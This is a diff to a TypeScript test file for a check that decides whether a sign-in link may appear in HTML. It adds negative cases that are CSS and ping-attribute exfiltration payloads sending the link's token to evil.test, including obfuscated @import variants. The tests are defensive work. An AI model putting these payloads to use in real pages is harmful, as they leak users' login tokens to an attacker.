@@ -8,7 +8,7 @@ const check = (html: string, text = link) => standsAlone({ html, text }, { link,
 
 test.each([
   `<p><a href="${written}" style="color:#fff">Go on</a></p><p>${written}</p>`,
-  `<!doctype html><html lang="en"><head><title>x</title><style>p > a { color: red }</style></head><body>${written}</body></html>`,
+  `<!doctype html><html lang="en"><head><title>x</title><style>@media (max-width: 600px) { p > a { color: rgb(1, 2, 3) } }</style></head><body>${written}</body></html>`,
   `<!-- a note --><p>Here (${written}), <b>now</b> ${written}.</p><br/><img src="https://cdn.test/logo.png" alt=''>`,
   '<p>no link at all</p>',
 ])('[AUTHN-03] a link may stand so: %s', (html) => {
@@ -39,6 +39,13 @@ test.each([
   `<!-- ${written} -->`,
   `<p onclick=x>${written}</p>`,
   `<style> ${written}`,
+  `<style>a[href*="token=a"]{background:url(https://evil.test/?a)}</style><a href="${written}">x</a>`,
+  `<style>@IMPORT "https://evil.test/a.css";</style>${written}`,
+  `<style>@\\69mport "https://evil.test/a.css";</style>${written}`,
+  `<style>@font-face{font-family:a;src:url(https://evil.test/a);unicode-range:U+61}</style>${written}`,
+  `<style>a{content:attr(href)}</style><a href="${written}">x</a>`,
+  `<a ping="https://evil.test/" href="${written}">x</a>`,
+  `<a href="${written}" PING='https://evil.test/'>x</a>`,
   `< p>${written}`,
 ])('[AUTHN-03] a link may not stand so: %s', (html) => {
   expect(check(html)).toBe(false);
